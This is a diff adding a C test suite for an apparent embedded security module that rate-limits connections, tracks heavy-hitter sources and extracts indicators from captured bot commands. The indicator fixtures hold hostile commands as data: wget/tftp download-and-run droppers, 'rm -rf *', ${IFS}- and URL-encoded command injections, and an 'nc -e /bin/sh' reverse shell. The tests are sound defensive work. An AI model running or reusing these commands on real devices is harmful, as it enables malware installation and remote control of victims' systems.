@@ -0,0 +1,504 @@
+/*
+ * Security tests
+ *
+ * The rate limiter and heavy hitter sketch run on simulated time:
+ * esp_timer_get_time() is wrapped at link time, so hours of traffic at
+ * thousands of connections a second take a fraction of a second.
+ * The heavy hitter top lists are also read from a second task while
+ * connections are recorded. Indicator extraction is checked against
+ * captured bot commands, whole and cut at every pair of split points.
+ */
+
+#include "security/rate_limiter.h"
+#include "security/heavy_hitters.h"
+#include "security/indicators.h"
+#include "utils/config.h"
+#include "esp_log.h"
+#include "freertos/FreeRTOS.h"
+#include "freertos/task.h"
+#include "test_support.h"
+#include <arpa/inet.h>
+#include <stdatomic.h>
+#include <stdlib.h>
+#include <string.h>
+
+static int64_t fake_us;
+static uint64_t rng_state;
+
+int64_t __wrap_esp_timer_get_time(void);
+
+// Internal function prototypes
+static void restart(void);
+static uint32_t next_random(void);
+
+int64_t __wrap_esp_timer_get_time(void)
+{
+    return fake_us;
+}
+
+static void restart(void)
+{
+    fake_us = 0;
+    rng_state = 88172645463325252ull;
+    rate_limiter_init();
+}
+
+static uint32_t next_random(void)
+{
+    // xorshift64, so every run sees the same traffic
+    rng_state ^= rng_state << 13;
+    rng_state ^= rng_state >> 7;
+    rng_state ^= rng_state << 17;
+    return (uint32_t)rng_state;
+}
+
+/* ------------------------------------------------------------------ */
+/* Per-address token buckets                                           */
+/* ------------------------------------------------------------------ */
+
+#define REFERENCE_SOURCES 200
+
+typedef struct {
+    bool seen;
+    uint32_t credit;                       ///< Refill-milliseconds, as the limiter keeps them
+    uint32_t last_ms;
+} reference_bucket_t;
+
+// An unbounded token bucket per source, written from the specification
+static bool reference_allows(reference_bucket_t *bucket, uint32_t now_ms)
+{
+    const uint32_t capacity = RATE_LIMIT_MAX_CONNECTIONS * RATE_LIMIT_WINDOW_MS;
+
+    if (!bucket->seen || now_ms - bucket->last_ms >= RATE_LIMIT_WINDOW_MS) {
+        bucket->credit = capacity;
+    } else {
+        bucket->credit += (now_ms - bucket->last_ms) * RATE_LIMIT_MAX_CONNECTIONS;
+        if (bucket->credit > capacity) {
+            bucket->credit = capacity;
+        }
+    }
+    bucket->seen = true;
+    bucket->last_ms = now_ms;
+    return bucket->credit >= RATE_LIMIT_WINDOW_MS;
+}
+
+static void test_rate_limiter_host_budget(void)
+{
+    const uint32_t addr = htonl(0xcb007107);     // 203.0.113.7
+
+    restart();
+    for (int i = 0; i < RATE_LIMIT_MAX_CONNECTIONS; i++) {
+        TEST_ASSERT_EQUAL(RATE_LIMIT_ALLOWED, rate_limiter_check(addr));
+    }
+    TEST_ASSERT_EQUAL(RATE_LIMIT_REFUSED_HOST, rate_limiter_check(addr));
+
+    // One connection's worth of refill later, exactly one more gets in
+    fake_us += (int64_t)RATE_LIMIT_WINDOW_MS * 1000 / RATE_LIMIT_MAX_CONNECTIONS;
+    TEST_ASSERT_EQUAL(RATE_LIMIT_ALLOWED, rate_limiter_check(addr));
+    TEST_ASSERT_EQUAL(RATE_LIMIT_REFUSED_HOST, rate_limiter_check(addr));
+
+    // Other addresses have their own budget
+    TEST_ASSERT_EQUAL(RATE_LIMIT_ALLOWED, rate_limiter_check(htonl(0xcb007108)));
+
+    rate_limiter_stats_t stats;
+    rate_limiter_get_stats(&stats);
+    TEST_ASSERT_EQUAL(RATE_LIMIT_MAX_CONNECTIONS + 2, stats.allowed);
+    TEST_ASSERT_EQUAL(2, stats.refused[RATE_LIMIT_REFUSED_HOST]);
+    TEST_ASSERT_EQUAL_STRING("/32 budget", rate_limiter_result_name(RATE_LIMIT_REFUSED_HOST));
+}
+
+static void test_rate_limiter_matches_reference(void)
+{
+    static reference_bucket_t reference[REFERENCE_SOURCES];
+    int heavy = 0;
+
+    restart();
+    memset(reference, 0, sizeof(reference));
+
+    // Fewer sources than buckets, so nothing is evicted and every verdict
+    // must match; each source sits in its own /16
+    for (int i = 0; i < 500000; i++) {
+        fake_us += next_random() % 2000;
+        uint32_t id = next_random() % REFERENCE_SOURCES;
+        uint32_t addr = htonl((id + 1) << 24 | 0x0a0b0c);
+        uint32_t now_ms = (uint32_t)(fake_us / 1000);
+
+        rate_limit_result_t result = rate_limiter_check(addr);
+        bool allowed = reference_allows(&reference[id], now_ms);
+        if (result == RATE_LIMIT_REFUSED_HEAVY_HITTER) {
+            // The sketch may refuse on top of the bucket; nothing is charged
+            TEST_ASSERT_TRUE(allowed);
+            heavy++;
+            continue;
+        }
+        TEST_ASSERT_EQUAL(allowed ? RATE_LIMIT_ALLOWED : RATE_LIMIT_REFUSED_HOST, result);
+        if (allowed) {
+            reference[id].credit -= RATE_LIMIT_WINDOW_MS;
+        }
+    }
+
+    rate_limiter_stats_t stats;
+    rate_limiter_get_stats(&stats);
+    TEST_ASSERT_EQUAL(0, stats.levels[RATE_LIMIT_LEVEL_HOST].evictions);
+    TEST_ASSERT_EQUAL(REFERENCE_SOURCES, stats.levels[RATE_LIMIT_LEVEL_HOST].tracked);
+    TEST_ASSERT_EQUAL(heavy, stats.refused[RATE_LIMIT_REFUSED_HEAVY_HITTER]);
+}
+
+static void test_rate_limiter_flood_keeps_offenders_limited(void)
+{
+    static uint32_t sources[100000];
+    uint32_t offender_attempts = 0;
+    uint32_t offender_allowed = 0;
+    uint32_t background_attempts = 0;
+    uint32_t background_refused = 0;
+
+    restart();
+    for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++) {
+        sources[i] = next_random();
+    }
+
+    // 4000 connections a second for ten minutes; every 16th comes from one
+    // of 16 repeat offenders, the rest from far more sources than buckets
+    for (int i = 0; i < 2400000; i++) {
+        fake_us += 250;
+        if (i % 16 == 0) {
+            offender_attempts++;
+            offender_allowed += rate_limiter_check(htonl(0xc0a80000u + (i / 16) % 16)) == RATE_LIMIT_ALLOWED;
+        } else {
+            background_attempts++;
+            background_refused += rate_limiter_check(sources[next_random() % 100000]) != RATE_LIMIT_ALLOWED;
+        }
+    }
+
+    rate_limiter_stats_t stats;
+    rate_limiter_get_stats(&stats);
+    const rate_limiter_level_stats_t *host = &stats.levels[RATE_LIMIT_LEVEL_HOST];
+    TEST_ASSERT(host->evictions > 2000000);
+    TEST_ASSERT(host->tracked == RATE_LIMIT_TRACKED_SOURCES);
+    // Offenders stay in the table, so they are never handed a fresh bucket
+    TEST_ASSERT_EQUAL(0, host->evicted_limited);
+    TEST_ASSERT(offender_allowed * 100 < offender_attempts * 2);
+    TEST_ASSERT(background_refused * 1000 < background_attempts);
+    // Backward-shift deletion leaves no tombstones to lengthen probes
+    TEST_ASSERT(host->max_probe < RATE_LIMIT_TRACKED_SOURCES / 4);
+}
+
+/* ------------------------------------------------------------------ */
+/* Heavy hitters                                                       */
+/* ------------------------------------------------------------------ */
+
+static void test_heavy_hitters_find_scanner_and_noisy_host(void)
+{
+    static uint32_t sources[100000];
+    const uint32_t scanner_net = htonl(0xc6336400);     // 198.51.100.0/24
+    const uint32_t noisy_host = htonl(0xcb007107);      // 203.0.113.7
+    uint32_t totals[3] = {0};
+    uint32_t refused[3] = {0};
+
+    restart();
+    for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++) {
+        sources[i] = next_random();
+    }
+
+    // Ten minutes at 4000/s: a scanner rotating through 250 addresses of
+    // one /24 (1.6/s each, under the per-address budget), a host at
+    // 41/s, and random background traffic
+    for (int i = 0; i < 2400000; i++) {
+        fake_us += 250;
+        int kind = i % 10 == 0 ? 1 : (i % 97 == 0 ? 2 : 0);
+        uint32_t addr = kind == 1 ? (scanner_net | htonl((uint32_t)((i / 10) % 250 + 1))) :
+                        kind == 2 ? noisy_host : sources[next_random() % 100000];
+
+        totals[kind]++;
+        refused[kind] += rate_limiter_check(addr) != RATE_LIMIT_ALLOWED;
+    }
+
+    TEST_ASSERT(refused[1] * 100 > totals[1] * 99);
+    TEST_ASSERT(refused[2] * 100 > totals[2] * 99);
+    TEST_ASSERT(refused[0] * 10000 < totals[0]);
+
+    heavy_hitter_t top[HEAVY_HITTER_TOP_K];
+    TEST_ASSERT(heavy_hitters_top(HEAVY_HITTER_SUBNET, top, HEAVY_HITTER_TOP_K) > 0);
+    TEST_ASSERT_EQUAL(scanner_net, top[0].prefix);
+    TEST_ASSERT(heavy_hitters_top(HEAVY_HITTER_HOST, top, HEAVY_HITTER_TOP_K) > 0);
+    TEST_ASSERT_EQUAL(noisy_host, top[0].prefix);
+    for (size_t i = 1; i < HEAVY_HITTER_TOP_K; i++) {
+        TEST_ASSERT(top[i].count <= top[i - 1].count);
+    }
+}
+
+static void test_heavy_hitters_decay(void)
+{
+    const uint32_t addr = htonl(0xcb007107);
+    heavy_hitter_estimate_t estimate;
+
+    restart();
+    for (int i = 0; i < 2 * HEAVY_HITTER_HOST_LIMIT; i++) {
+        heavy_hitters_record(addr, &estimate);
+    }
+    TEST_ASSERT_TRUE(estimate.heavy);
+    TEST_ASSERT(estimate.host >= 2 * HEAVY_HITTER_HOST_LIMIT);
+
+    // Counts halve every window, so a source that went quiet is forgiven
+    fake_us += 3LL * HEAVY_HITTER_WINDOW_MS * 1000;
+    heavy_hitters_record(addr, &estimate);
+    TEST_ASSERT_FALSE(estimate.heavy);
+    TEST_ASSERT(estimate.host <= 2 * HEAVY_HITTER_HOST_LIMIT / 8 + 1);
+}
+
+static atomic_bool snapshot_stop;
+static atomic_uint snapshot_count;
+static atomic_uint snapshot_bad;
+
+// The monitor task's side: every copy must be one list, sorted, no repeats
+static void snapshot_task(void *arg)
+{
+    (void)arg;
+    heavy_hitter_t top[HEAVY_HITTER_TOP_K];
+
+    while (!atomic_load(&snapshot_stop)) {
+        size_t n = heavy_hitters_top(HEAVY_HITTER_HOST, top, HEAVY_HITTER_TOP_K);
+        bool bad = false;
+        for (size_t i = 0; i < n; i++) {
+            bad |= top[i].count == 0 || (i > 0 && top[i].count > top[i - 1].count);
+            for (size_t j = 0; j < i; j++) {
+                bad |= top[i].prefix == top[j].prefix;
+            }
+        }
+        atomic_fetch_add(&snapshot_bad, bad);
+        atomic_fetch_add(&snapshot_count, 1);
+    }
+    atomic_store(&snapshot_stop, false);
+    vTaskDelete(NULL);
+}
+
+static void test_heavy_hitters_top_while_recording(void)
+{
+    restart();
+    atomic_store(&snapshot_stop, false);
+    atomic_store(&snapshot_count, 0);
+    atomic_store(&snapshot_bad, 0);
+    TEST_ASSERT_EQUAL(pdPASS, xTaskCreatePinnedToCore(snapshot_task, "snapshot", 4096, NULL, 5,
+                                                      NULL, 1));
+
+    // 16 equally busy hosts, so the top 8 keeps being replaced and
+    // reordered; short of the 16-bit counters saturating
+    for (int i = 0; i < 1000000 || atomic_load(&snapshot_count) < 1000; i++) {
+        uint32_t r = next_random();
+        heavy_hitters_record(htonl(0x0a000000 | (r & 15)), NULL);
+    }
+
+    atomic_store(&snapshot_stop, true);
+    while (atomic_load(&snapshot_stop)) {
+        vTaskDelay(1);
+    }
+    TEST_ASSERT_EQUAL(0, atomic_load(&snapshot_bad));
+}
+
+/* ------------------------------------------------------------------ */
+/* Prefix budgets                                                      */
+/* ------------------------------------------------------------------ */
+
+// One simulated hour at 20 attempts a second, 3 of them from a botnet
+// rotating through random hosts of @p net / @p host_mask
+static void rotating_flood(uint32_t net, uint32_t host_mask, uint32_t *flood_allowed,
+                           uint32_t *background_refused, uint32_t *refused)
+{
+    restart();
+    *flood_allowed = 0;
+    *background_refused = 0;
+    memset(refused, 0, RATE_LIMIT_RESULT_COUNT * sizeof(refused[0]));
+
+    for (int i = 0; i < 3600 * 20; i++) {
+        fake_us += 50000;
+        if (i % 20 < 3) {
+            rate_limit_result_t result = rate_limiter_check(htonl(net | (next_random() & host_mask)));
+            *flood_allowed += result == RATE_LIMIT_ALLOWED;
+            refused[result]++;
+        } else {
+            // Random sources, kept out of the botnet's network
+            uint32_t addr = next_random();
+            if ((addr & ~host_mask) == net) {
+                addr ^= 0x80000000u;
+            }
+            *background_refused += rate_limiter_check(htonl(addr)) != RATE_LIMIT_ALLOWED;
+        }
+    }
+}
+
+static void test_rate_limiter_rotating_subnet_24(void)
+{
+    uint32_t allowed;
+    uint32_t background_refused;
+    uint32_t refused[RATE_LIMIT_RESULT_COUNT];
+
+    rotating_flood(0xc6336400, 0xff, &allowed, &background_refused, refused);
+
+    // Held to the /24 budget: 30 a minute, 1800 over the hour
+    TEST_ASSERT(allowed <= 60 * RATE_LIMIT_SUBNET24_MAX_CONNECTIONS + RATE_LIMIT_SUBNET24_MAX_CONNECTIONS);
+    TEST_ASSERT(allowed >= 60 * RATE_LIMIT_SUBNET24_MAX_CONNECTIONS * 9 / 10);
+    TEST_ASSERT(refused[RATE_LIMIT_REFUSED_SUBNET_24] > refused[RATE_LIMIT_REFUSED_HOST]);
+    TEST_ASSERT_EQUAL(0, background_refused);
+}
+
+static void test_rate_limiter_rotating_subnet_16(void)
+{
+    uint32_t allowed;
+    uint32_t background_refused;
+    uint32_t refused[RATE_LIMIT_RESULT_COUNT];
+
+    rotating_flood(0xc6330000, 0xffff, &allowed, &background_refused, refused);
+
+    // Held to the /16 budget: 150 per five minutes, 1800 over the hour
+    uint32_t budget = 3600000 / RATE_LIMIT_SUBNET16_WINDOW_MS * RATE_LIMIT_SUBNET16_MAX_CONNECTIONS;
+    TEST_ASSERT(allowed <= budget + RATE_LIMIT_SUBNET16_MAX_CONNECTIONS);
+    TEST_ASSERT(allowed >= budget * 9 / 10);
+    TEST_ASSERT(refused[RATE_LIMIT_REFUSED_SUBNET_16] > refused[RATE_LIMIT_REFUSED_SUBNET_24]);
+    TEST_ASSERT_EQUAL(0, background_refused);
+}
+
+static void test_rate_limiter_refusal_charges_nothing(void)
+{
+    const uint32_t net = 0xc6336400;
+    rate_limiter_stats_t stats;
+
+    restart();
+
+    // Spend the /24 budget with one connection from each of 30 hosts
+    for (uint32_t host = 1; host <= RATE_LIMIT_SUBNET24_MAX_CONNECTIONS; host++) {
+        TEST_ASSERT_EQUAL(RATE_LIMIT_ALLOWED, rate_limiter_check(htonl(net | host)));
+    }
+    for (int i = 0; i < 100; i++) {
+        TEST_ASSERT_EQUAL(RATE_LIMIT_REFUSED_SUBNET_24, rate_limiter_check(htonl(net | 200)));
+    }
+
+    // The refused attempts cost host 200 nothing: once the /24 has
+    // refilled, its full budget is still there
+    fake_us += (int64_t)RATE_LIMIT_SUBNET24_WINDOW_MS * 1000;
+    for (int i = 0; i < RATE_LIMIT_MAX_CONNECTIONS; i++) {
+        TEST_ASSERT_EQUAL(RATE_LIMIT_ALLOWED, rate_limiter_check(htonl(net | 200)));
+    }
+    TEST_ASSERT_EQUAL(RATE_LIMIT_REFUSED_HOST, rate_limiter_check(htonl(net | 200)));
+
+    rate_limiter_get_stats(&stats);
+    TEST_ASSERT_EQUAL(100, stats.refused[RATE_LIMIT_REFUSED_SUBNET_24]);
+    TEST_ASSERT_EQUAL(RATE_LIMIT_SUBNET24_MAX_CONNECTIONS + RATE_LIMIT_MAX_CONNECTIONS, stats.allowed);
+}
+
+/* ------------------------------------------------------------------ */
+/* Indicators                                                          */
+/* ------------------------------------------------------------------ */
+
+static const struct {
+    const char *input;
+    const char *expected;
+} INDICATOR_CASES[] = {
+    { "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", "" },
+    { "cd /tmp || cd /var/run || cd /; wget http://185.244.25.153/bins.sh; chmod 777 bins.sh; "
+      "sh bins.sh; tftp 185.244.25.153 -c get tftp1.sh; tftp -r tftp2.sh -g 185.244.25.153; "
+      "ftpget -v -u anonymous -p anonymous -P 21 185.244.25.153 ftp1.sh ftp1.sh; rm -rf *",
+      "url:http://185.244.25.153/bins.sh ip:185.244.25.153" },
+    { "/bin/busybox wget -O - http://cnc.badhost.xyz:8080/mips > .d; chmod +x .d; ./.d telnet.mips",
+      "url:http://cnc.badhost.xyz:8080/mips host:cnc.badhost.xyz" },
+    { "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
+      "\\x00\\x00\\x00\\x02\\x00\\x08\\x00\\x00' > .s", "elf:mips-32be" },
+    { "/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://103.149.87.69/mozi.m;"
+      "${IFS}sh${IFS}/var/tmp/mozi.m", "url:http://103.149.87.69/mozi.m ip:103.149.87.69" },
+    { "ping_addr=%3Bcurl%20-o%20%2Ftmp%2Fx%20https%3A%2F%2Fuser%3Apw%40dl.evil-cdn.com%2Fx86%3Bsh",
+      "url:https://user:pw@dl.evil-cdn.com/x86 host:dl.evil-cdn.com" },
+    // Download arguments without a scheme, with and without a port
+    { "cd /tmp; wget 45.12.3.4:8080/x.arm7; chmod 777 x.arm7", "ip:45.12.3.4 url:45.12.3.4:8080/x.arm7" },
+    { "curl -O dl.example.net:81/bins/x86 | sh", "host:dl.example.net url:dl.example.net:81/bins/x86" },
+    { "wget 45.12.3.4/x.arm7", "ip:45.12.3.4 url:45.12.3.4/x.arm7" },
+    { "wget 45.12.3.4:8080", "ip:45.12.3.4" },
+    { "wget host.example.com:abc/x", "host:host.example.com" },
+    { "busybox tftp -g -l .t -r arm7 files.example.org 69", "host:files.example.org" },
+    // Version strings and out-of-range octets are not addresses
+    { "uname -a; cat /proc/cpuinfo; version 1.2.3.4.5; ip 10.0.0.256", "" },
+    { "nc 198.51.100.7 4444 -e /bin/sh", "ip:198.51.100.7" },
+};
+
+#define INDICATOR_CASE_COUNT (sizeof(INDICATOR_CASES) / sizeof(INDICATOR_CASES[0]))
+
+static void scan_in_pieces(indicator_set_t *set, const char *input, size_t cut1, size_t cut2)
+{
+    size_t len = strlen(input);
+    size_t cuts[3] = { cut1, cut2, len };
+    size_t pos = 0;
+
+    indicators_init(set);
+    for (int i = 0; i < 3; i++) {
+        if (cuts[i] > pos) {
+            indicators_scan(set, input + pos, cuts[i] - pos);
+            pos = cuts[i];
+        }
+    }
+    indicators_flush(set);
+}
+
+static void test_indicators_from_bot_commands(void)
+{
+    indicator_set_t set;
+
+    for (size_t i = 0; i < INDICATOR_CASE_COUNT; i++) {
+        size_t len = strlen(INDICATOR_CASES[i].input);
+        scan_in_pieces(&set, INDICATOR_CASES[i].input, len, len);
+        TEST_ASSERT_EQUAL_STRING(INDICATOR_CASES[i].expected, set.text);
+        TEST_ASSERT_EQUAL(strlen(set.text), set.text_len);
+        TEST_ASSERT_EQUAL(0, set.dropped);
+    }
+}
+
+static void test_indicators_split_invariance(void)
+{
+    indicator_set_t set;
+
+    for (size_t c = 0; c < INDICATOR_CASE_COUNT; c++) {
+        const char *input = INDICATOR_CASES[c].input;
+        size_t len = strlen(input);
+        for (size_t i = 0; i <= len; i++) {
+            for (size_t j = i; j <= len; j++) {
+                scan_in_pieces(&set, input, i, j);
+                TEST_ASSERT_EQUAL_STRING(INDICATOR_CASES[c].expected, set.text);
+            }
+        }
+    }
+}
+
+static void test_indicators_dedup_and_overflow(void)
+{
+    char input[1024];
+    indicator_set_t set;
+    size_t len = 0;
+
+    // The same host twice is listed once; past INDICATOR_MAX, items are
+    // counted as dropped
+    for (int i = 0; i < INDICATOR_MAX + 4; i++) {
+        len += (size_t)snprintf(input + len, sizeof(input) - len, "nc 10.0.0.%d 23; nc 10.0.0.%d 23; ",
+                                i + 1, i + 1);
+    }
+    scan_in_pieces(&set, input, len, len);
+    TEST_ASSERT_EQUAL(INDICATOR_MAX, set.count);
+    TEST_ASSERT(set.dropped >= 4);
+    TEST_ASSERT(strncmp(set.text, "ip:10.0.0.1 ip:10.0.0.2 ", 24) == 0);
+    TEST_ASSERT(set.text_len < INDICATOR_TEXT_SIZE);
+}
+
+int main(void)
+{
+    esp_log_level_set("*", ESP_LOG_NONE);
+
+    RUN_TEST(test_rate_limiter_host_budget);
+    RUN_TEST(test_rate_limiter_matches_reference);
+    RUN_TEST(test_rate_limiter_flood_keeps_offenders_limited);
+    RUN_TEST(test_heavy_hitters_find_scanner_and_noisy_host);
+    RUN_TEST(test_heavy_hitters_decay);
+    RUN_TEST(test_heavy_hitters_top_while_recording);
+    RUN_TEST(test_rate_limiter_rotating_subnet_24);
+    RUN_TEST(test_rate_limiter_rotating_subnet_16);
+    RUN_TEST(test_rate_limiter_refusal_charges_nothing);
+    RUN_TEST(test_indicators_from_bot_commands);
+    RUN_TEST(test_indicators_split_invariance);
+    RUN_TEST(test_indicators_dedup_and_overflow);
+    return TEST_SUMMARY();
+}